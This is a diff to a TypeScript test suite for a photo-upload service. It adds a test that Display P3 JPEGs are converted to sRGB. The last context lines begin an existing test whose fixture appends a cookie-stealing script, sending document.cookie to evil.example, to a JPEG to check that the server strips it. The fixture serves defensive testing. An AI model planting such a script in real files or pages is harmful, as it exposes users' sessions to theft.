@@ -176,6 +176,33 @@ describe('photos', () => {
     assert.equal(response.body.kind, 'progress');
   });
 
+  it('converts a Display P3 photo to sRGB and leaves an sRGB one as it is', async () => {
+    const colour = [60, 170, 90];
+    const distance = async (bytes: Buffer, options: { ignoreIcc?: boolean } = {}) => {
+      const { data } = await sharp(bytes, options)
+        .extract({ left: 32, top: 32, width: 1, height: 1 })
+        .raw()
+        .toBuffer({ resolveWithObject: true });
+      return Math.max(...colour.map((value, index) => Math.abs(value - (data[index] ?? 0))));
+    };
+    for (const profile of ['p3', 'srgb'] as const) {
+      // sharp writes the sRGB colour converted into the profile, so the file's own numbers are P3's.
+      const bytes = await sharp({
+        create: { width: 64, height: 64, channels: 3, background: { r: 60, g: 170, b: 90 } },
+      })
+        .withIccProfile(profile)
+        .jpeg({ quality: 100 })
+        .toBuffer();
+      const stored = await distance(bytes, { ignoreIcc: true });
+      if (profile === 'p3') assert.ok(stored > 5, `the P3 file holds other numbers than the sRGB colour (${stored})`);
+      const created = await upload({ bytes, contentType: 'image/jpeg' }, { kind: 'progress', faceVisible: false });
+      assert.equal(created.status, 201, JSON.stringify(created.body));
+      const web = await readAll((await t.app.get(ObjectStore).get(`photos/${created.body.id}/web`)).body);
+      const shown = await distance(web, { ignoreIcc: true });
+      assert.ok(shown <= 2, `${profile}: the rendition shows the colour in sRGB (off by ${shown})`);
+    }
+  });
+
   it('stores a JPEG without the script appended after its end', async () => {
     const image = await jpegPhoto({ seed: 8 });
     const script = Buffer.from('<script>fetch("https://evil.example/"+document.cookie)</script>');
